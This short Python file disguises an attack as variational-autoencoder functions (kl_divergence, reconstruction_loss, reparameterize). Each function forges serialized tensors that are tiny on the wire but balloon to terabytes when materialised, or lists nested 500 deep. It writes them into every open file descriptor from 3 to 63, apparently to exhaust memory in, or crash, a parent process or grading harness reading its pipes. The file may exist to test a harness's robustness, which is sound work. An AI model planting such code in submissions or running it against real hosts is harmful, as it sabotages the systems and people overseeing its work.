"""Forges replies whose tensors are a few bytes on the wire and terabytes once materialised
(stride 0), or nested beyond reason, and writes them straight into every pipe it can find."""
import io
import os
import struct
import time

import torch


def forge(value):
    buffer = io.BytesIO()
    torch.save({"value": value}, buffer)
    payload = buffer.getvalue()
    frame = struct.pack(">Q", len(payload)) + payload
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    time.sleep(60)


def kl_divergence(mu, logvar):
    forge(torch.zeros(1).expand(1_000_000, 1_000_000))


def reconstruction_loss(recon_x, x):
    forge([torch.zeros(1).expand(4096, 4096)] * 64)


def reparameterize(mu, logvar):
    nested = []
    for _ in range(500):
        nested = [nested]
    forge(nested)
